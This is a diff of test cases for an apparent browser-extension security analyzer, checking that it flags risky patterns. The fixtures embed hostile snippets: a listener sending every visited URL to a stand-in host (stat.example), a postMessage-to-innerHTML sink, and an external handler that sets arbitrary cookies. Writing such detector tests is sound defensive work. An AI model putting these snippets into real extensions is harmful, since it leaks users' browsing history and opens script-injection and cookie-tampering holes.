@@ -172,3 +172,31 @@ it('a download that the browser asks about is the milder', async () => {
   expect(await told(asked('', save(', saveAs: true')))).toEqual(['message-to-powers medium low']);
   expect(await told(asked('', save(', saveAs: false')))).toEqual(['message-to-powers high high']);
 });
+
+it('visits are told whatever the scheme that is checked, and not where a site is', async () => {
+  const visits = (check: string): Parts => ({
+    background: `chrome.tabs.onUpdated.addListener((id, info, tab) => { if (${check}) return; fetch('https://stat.example/v?u=' + encodeURIComponent(tab.url)); });`,
+  });
+  const grade = async (parts: Parts): Promise<string> => {
+    const { files } = sample({ ...parts, manifest: ALL });
+    return (await analyze(memoryTree(files), { kind: 'extension' })).score.grade;
+  };
+  expect(await grade(visits("new URL(tab.url).protocol !== 'https:'"))).toBe('F');
+  expect(await grade(visits("new URL(tab.url).hostname !== 'shop.example'"))).not.toBe('F');
+});
+
+it("AngularJS's elements hear messages as jQuery's do", async () => {
+  const exposed = (event: string): string =>
+    `angular.element(window).on('${event}', (e) => { document.getElementById('out').innerHTML = e.originalEvent.data.word; });`;
+  expect(await told({ exposed: exposed('message') })).toHaveLength(1);
+  expect(await told({ exposed: exposed('resize') })).toEqual([]);
+});
+
+it('who may set the cookies of every site decides more than the pages of its own', async () => {
+  const parts = (hosts: readonly string[]): Parts => ({
+    background: 'chrome.runtime.onMessageExternal.addListener((m) => { chrome.cookies.set(m.cookie); });',
+    manifest: { host_permissions: hosts, externally_connectable: { matches: ['https://app.example/*'] } },
+  });
+  expect(await told(parts(['<all_urls>']))).toEqual(['message-to-powers high medium']);
+  expect(await told(parts(['https://app.example/*']))).toEqual(['message-to-powers medium high']);
+});
